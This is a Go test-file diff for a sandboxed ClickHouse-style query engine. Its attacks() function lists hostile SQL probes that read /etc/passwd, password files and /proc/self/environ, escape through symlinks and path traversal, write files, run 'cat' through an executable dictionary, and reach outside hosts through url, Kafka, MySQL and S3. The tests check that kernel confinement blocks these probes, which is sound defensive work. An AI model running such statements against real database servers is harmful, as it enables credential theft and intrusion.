@@ -61,7 +61,8 @@ func lookOutside(t *testing.T, state string) *outside {
 	t.Helper()
 	o := &outside{dir: t.TempDir(), state: state, trap: setTrap(t), words: []string{"root:", "the word"}}
 	for name, text := range map[string]string{
-		"secret": "the word\n", "over": "the word is kept\n", "template": "the word ${data}\n", "secret.csv": "the word\n", "s.proto": "syntax = \"proto3\"; message theword { string a = 1; }\n",
+		"secret": "the word\n", "over": "the word is kept\n", "template": "the word ${data}\n",
+		"secret.csv": "the word\n", "s.proto": "syntax = \"proto3\"; message theword { string a = 1; }\n",
 	} {
 		if err := os.WriteFile(filepath.Join(o.dir, name), []byte(text), 0o644); err != nil {
 			t.Fatal(err)
@@ -69,26 +70,33 @@ func lookOutside(t *testing.T, state string) *outside {
 	}
 	// A link that somebody has put among the engine's own files.
 	files := filepath.Join(engine.Dir(state), "data", "user_files")
-	if err := errors.Join(os.MkdirAll(files, 0o700), os.Symlink(filepath.Join(o.dir, "secret"), filepath.Join(files, "link")),
+	if err := errors.Join(os.MkdirAll(files, 0o700), os.Symlink(filepath.Join(o.dir, "secret"),
+		filepath.Join(files, "link")),
 		os.Symlink(o.dir, filepath.Join(files, "folder"))); err != nil {
 		t.Fatal(err)
 	}
 	return o
 }
 
-// attacks are statements that reach files, other programs or the network. Where one fails for want of a word in this build
-// of the library it costs nothing.
+// attacks are statements that reach files, other programs or the network. Where one fails for want of a word in this
+// build of the library it costs nothing.
 func (o *outside) attacks() []string {
 	var all []string
 	password := filepath.Join(engine.Dir(o.state), "writer.password")
 	for _, path := range []string{
-		"/etc/passwd", password, filepath.Join(engine.Dir(o.state), "reader.password"), "../writer.password", "../../clickhouse/writer.password",
+		"/etc/passwd", password, filepath.Join(engine.Dir(o.state), "reader.password"), "../writer.password",
+		"../../clickhouse/writer.password",
 		"../../../writer.password", filepath.Join(o.dir, "secret"), "link", "folder/secret", "user_files/link",
-		filepath.Join(engine.Dir(o.state), "data", "user_files", "link"), filepath.Join(engine.Dir(o.state), "data", "user_files", "folder", "secret"),
-		"/proc/self/environ", "/proc/thread-self/environ", fmt.Sprintf("/proc/%d/environ", os.Getpid()), "/proc/self/mem", "/proc/self/cmdline",
-		"/proc/self/root/etc/passwd", "/proc/self/cwd/../writer.password", fmt.Sprintf("/proc/%d/root/etc/passwd", os.Getpid()), "/proc/self/mountinfo", "/proc/net/tcp",
-		"/proc/self/fd/0", "/proc/self/fd/2", "/proc/self/fd/3", "/proc/self/fd/4", "/proc/self/fd/5", "/proc/self/fd/6", "/proc/self/fd/7",
-		filepath.Join(engine.Dir(o.state), "lock"), filepath.Join(o.state, "positions"), o.dir + "/*", o.dir + "/**", "/etc/pass*", "/dev/mem", "/dev/kmsg",
+		filepath.Join(engine.Dir(o.state), "data", "user_files", "link"),
+		filepath.Join(engine.Dir(o.state), "data", "user_files", "folder", "secret"),
+		"/proc/self/environ", "/proc/thread-self/environ", fmt.Sprintf("/proc/%d/environ", os.Getpid()),
+		"/proc/self/mem", "/proc/self/cmdline",
+		"/proc/self/root/etc/passwd", "/proc/self/cwd/../writer.password",
+		fmt.Sprintf("/proc/%d/root/etc/passwd", os.Getpid()), "/proc/self/mountinfo", "/proc/net/tcp",
+		"/proc/self/fd/0", "/proc/self/fd/2", "/proc/self/fd/3", "/proc/self/fd/4", "/proc/self/fd/5",
+		"/proc/self/fd/6", "/proc/self/fd/7",
+		filepath.Join(engine.Dir(o.state), "lock"), filepath.Join(o.state, "positions"), o.dir + "/*", o.dir + "/**",
+		"/etc/pass*", "/dev/mem", "/dev/kmsg",
 	} {
 		all = append(all,
 			"SELECT * FROM file('"+path+"', 'LineAsString')",
@@ -96,16 +104,19 @@ func (o *outside) attacks() []string {
 			"SELECT * FROM `"+path+"`",
 			"SELECT * FROM filesystem('"+path+"')",
 			"DESCRIBE file('"+path+"', 'CSV')",
-			"CREATE TABLE stolen (line String) ENGINE = File(LineAsString, '"+path+"')", "SELECT * FROM stolen", "DROP TABLE stolen",
+			"CREATE TABLE stolen (line String) ENGINE = File(LineAsString, '"+path+"')", "SELECT * FROM stolen",
+			"DROP TABLE stolen",
 		)
 	}
 	over := filepath.Join(o.dir, "over")
-	for _, path := range []string{over, "folder/over", filepath.Join(engine.Dir(o.state), "data", "user_files", "folder", "over"), "/proc/self/cwd/../writer.password"} {
+	for _, path := range []string{over, "folder/over", filepath.Join(engine.Dir(o.state), "data", "user_files",
+		"folder", "over"), "/proc/self/cwd/../writer.password"} {
 		all = append(all,
 			"SELECT 'x' INTO OUTFILE '"+path+"' TRUNCATE FORMAT TSV",
 			"SELECT 'x' INTO OUTFILE '"+path+"' APPEND FORMAT TSV",
 			"SELECT 'x' INTO OUTFILE '"+path+".new' FORMAT TSV",
-			"INSERT INTO FUNCTION file('"+path+"', 'TSV', 'a String') SELECT 'x' SETTINGS engine_file_truncate_on_insert = 1",
+			"INSERT INTO FUNCTION file('"+path+
+				"', 'TSV', 'a String') SELECT 'x' SETTINGS engine_file_truncate_on_insert = 1",
 			"INSERT INTO FUNCTION file('"+path+".new', 'TSV', 'a String') SELECT 'x'",
 		)
 	}
@@ -133,10 +144,15 @@ func (o *outside) attacks() []string {
 		"SELECT * FROM icebergLocal('"+dir+"')",
 		"SELECT * FROM deltaLake('http://"+at+"/b', 'a', 'b')",
 		"CREATE TABLE k (a String) ENGINE = Kafka('"+at+"', 't', 'g', 'TSV')", "DROP TABLE k",
-		"CREATE TABLE n (a String) ENGINE = NATS SETTINGS nats_url = '"+at+"', nats_subjects = 's', nats_format = 'TSV'", "DROP TABLE n",
-		"CREATE DICTIONARY d (k UInt64, v String) PRIMARY KEY k SOURCE(HTTP(URL 'http://"+at+"/' FORMAT 'TSV')) LAYOUT(FLAT()) LIFETIME(1)", "SELECT dictGet('d', 'v', 1)", "DROP DICTIONARY d",
-		"CREATE DICTIONARY d (k UInt64, v String) PRIMARY KEY k SOURCE(FILE(PATH '"+dir+"/secret.csv' FORMAT 'TSV')) LAYOUT(FLAT()) LIFETIME(1)", "SELECT dictGet('d', 'v', 1)", "DROP DICTIONARY d",
-		"CREATE DICTIONARY d (k UInt64, v String) PRIMARY KEY k SOURCE(EXECUTABLE(COMMAND 'cat "+dir+"/secret' FORMAT 'TSV')) LAYOUT(FLAT()) LIFETIME(1)", "SELECT dictGet('d', 'v', 1)", "DROP DICTIONARY d",
+		"CREATE TABLE n (a String) ENGINE = NATS SETTINGS nats_url = '"+at+
+			"', nats_subjects = 's', nats_format = 'TSV'", "DROP TABLE n",
+		"CREATE DICTIONARY d (k UInt64, v String) PRIMARY KEY k SOURCE(HTTP(URL 'http://"+at+
+			"/' FORMAT 'TSV')) LAYOUT(FLAT()) LIFETIME(1)", "SELECT dictGet('d', 'v', 1)", "DROP DICTIONARY d",
+		"CREATE DICTIONARY d (k UInt64, v String) PRIMARY KEY k SOURCE(FILE(PATH '"+dir+
+			"/secret.csv' FORMAT 'TSV')) LAYOUT(FLAT()) LIFETIME(1)", "SELECT dictGet('d', 'v', 1)",
+		"DROP DICTIONARY d",
+		"CREATE DICTIONARY d (k UInt64, v String) PRIMARY KEY k SOURCE(EXECUTABLE(COMMAND 'cat "+dir+
+			"/secret' FORMAT 'TSV')) LAYOUT(FLAT()) LIFETIME(1)", "SELECT dictGet('d', 'v', 1)", "DROP DICTIONARY d",
 		"CREATE DATABASE f ENGINE = Filesystem('"+dir+"')", "SELECT * FROM f.secret", "DROP DATABASE f",
 		"CREATE DATABASE m ENGINE = MySQL('"+at+"', 'd', 'u', 'p')", "DROP DATABASE m",
 		"CREATE DATABASE p ENGINE = PostgreSQL('"+at+"', 'd', 'u', 'p')", "DROP DATABASE p",
@@ -147,7 +163,8 @@ func (o *outside) attacks() []string {
 		"SELECT catboostEvaluate('"+dir+"/secret', 1)",
 		"SELECT 1 AS a FORMAT Template SETTINGS format_template_resultset = '"+dir+"/template'",
 		"SELECT 'x' AS a FORMAT ProtobufSingle SETTINGS format_schema = '"+dir+"/s.proto:theword'",
-		"INSERT INTO FUNCTION file('mine', 'TSV', 'a String') SELECT * FROM file('"+dir+"/secret', 'TSV', 'a String')", "SELECT * FROM file('mine', 'LineAsString')",
+		"INSERT INTO FUNCTION file('mine', 'TSV', 'a String') SELECT * FROM file('"+dir+"/secret', 'TSV', 'a String')",
+		"SELECT * FROM file('mine', 'LineAsString')",
 		"BACKUP DATABASE system TO File('"+dir+"/backup')",
 		"BACKUP DATABASE system TO S3('http://"+at+"/b', 'a', 'b')",
 		"RESTORE DATABASE x FROM File('"+dir+"/secret')",
@@ -158,8 +175,10 @@ func (o *outside) attacks() []string {
 		"SELECT * FROM url('file://"+dir+"/secret', 'LineAsString')",
 		"SELECT * FROM url('file:///etc/passwd', 'LineAsString')",
 		"ATTACH TABLE a FROM '"+dir+"' (a String) ENGINE = TinyLog",
-		"CREATE TABLE d (a UInt8) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = local, path = '"+dir+"/')", "INSERT INTO d VALUES (1)", "DROP TABLE d SYNC",
-		"CREATE TABLE d (a UInt8) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = s3, endpoint = 'http://"+at+"/b/', access_key_id = 'a', secret_access_key = 'b')", "DROP TABLE d SYNC",
+		"CREATE TABLE d (a UInt8) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = local, path = '"+dir+"/')",
+		"INSERT INTO d VALUES (1)", "DROP TABLE d SYNC",
+		"CREATE TABLE d (a UInt8) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = s3, endpoint = 'http://"+at+
+			"/b/', access_key_id = 'a', secret_access_key = 'b')", "DROP TABLE d SYNC",
 	)
 }
 
@@ -236,7 +255,8 @@ func TestWalls(t *testing.T) {
 		t.Run(tc.helper, func(t *testing.T) {
 			dir := t.TempDir()
 			library(t)
-			c, err := engine.Start(t.Context(), dir, helper(tc.helper, dir), slog.New(slog.NewTextHandler(t.Output(), nil)))
+			c, err := engine.Start(t.Context(), dir, helper(tc.helper, dir),
+				slog.New(slog.NewTextHandler(t.Output(), nil)))
 			if err != nil {
 				t.Fatal(err)
 			}
@@ -258,7 +278,8 @@ func TestWalls(t *testing.T) {
 					t.Error(f)
 				}
 			} else if len(found) < 30 { // else the attacks are blunt
-				t.Errorf("without the kernel's walls only %d attacks succeed: %s", len(found), strings.Join(found, "\n"))
+				t.Errorf("without the kernel's walls only %d attacks succeed: %s", len(found),
+					strings.Join(found, "\n"))
 			}
 			if code, body, _ := post(t, end, engine.Reader, nil, "SELECT 1"); code != 200 {
 				t.Errorf("the engine after all this: %d %s", code, body)
@@ -270,14 +291,16 @@ func TestWalls(t *testing.T) {
 // TestHoles: in a process without walls the look at them finds every hole.
 func TestHoles(t *testing.T) {
 	dir := t.TempDir()
-	if err := errors.Join(os.Mkdir(engine.Dir(dir), 0o700), os.WriteFile(filepath.Join(engine.Dir(dir), "writer.password"), []byte("x"), 0o600)); err != nil {
+	if err := errors.Join(os.Mkdir(engine.Dir(dir), 0o700),
+		os.WriteFile(filepath.Join(engine.Dir(dir), "writer.password"), []byte("x"), 0o600)); err != nil {
 		t.Fatal(err)
 	}
 	err := engine.Holes(dir)
 	if err == nil {
 		t.Fatal("nothing found")
 	}
-	for _, want := range []string{"writer.password: <nil>", "/etc/passwd: <nil>", "/proc/self/environ: <nil>", "tried: <nil>", "socket(2): <nil>", "socket(1): <nil>", "execve: no such file"} {
+	for _, want := range []string{"writer.password: <nil>", "/etc/passwd: <nil>", "/proc/self/environ: <nil>",
+		"tried: <nil>", "socket(2): <nil>", "socket(1): <nil>", "execve: no such file"} {
 		if !strings.Contains(err.Error(), want) {
 			t.Errorf("no %q in %v", want, err)
 		}
@@ -306,7 +329,8 @@ func TestProcess(t *testing.T) {
 				t.Errorf("%s: no %q", thread, want)
 			}
 		}
-		if !strings.Contains(status, "CapEff:\t0000000000000000\n") && !strings.Contains(status, "CapEff:\t0000000000000002\n") {
+		if !strings.Contains(status, "CapEff:\t0000000000000000\n") &&
+			!strings.Contains(status, "CapEff:\t0000000000000002\n") {
 			t.Errorf("%s: capabilities in %s", thread, status)
 		}
 	}
@@ -321,21 +345,24 @@ func TestUnconfined(t *testing.T) {
 	library(t)
 	for abi, want := range map[string]string{"0": "this kernel cannot confine the engine, missing: files"} {
 		dir := t.TempDir()
-		if _, err := engine.Start(t.Context(), dir, helper("kernel", dir, abi), slog.New(slog.DiscardHandler)); err == nil || !strings.Contains(err.Error(), want) {
+		if _, err := engine.Start(t.Context(), dir, helper("kernel", dir, abi),
+			slog.New(slog.DiscardHandler)); err == nil || !strings.Contains(err.Error(), want) {
 			t.Errorf("ABI %s: %v", abi, err)
 		}
 	}
 	dir := t.TempDir()
 	var said strings.Builder
 	cmd := helper("open", dir)
-	c, err := engine.Start(t.Context(), dir, func() *exec.Cmd { c := cmd(); c.Stderr = &said; return c }, slog.New(slog.DiscardHandler))
+	c, err := engine.Start(t.Context(), dir, func() *exec.Cmd { c := cmd(); c.Stderr = &said; return c },
+		slog.New(slog.DiscardHandler))
 	if err != nil {
 		t.Fatal(err)
 	}
 	if err := c.Close(); err != nil {
 		t.Error(err)
 	}
-	if !strings.Contains(said.String(), "level=WARN msg=\"the kernel cannot confine the engine wholly\" missing=\"files") {
+	if !strings.Contains(said.String(),
+		"level=WARN msg=\"the kernel cannot confine the engine wholly\" missing=\"files") {
 		t.Errorf("no warning: %s", said.String())
 	}
 }
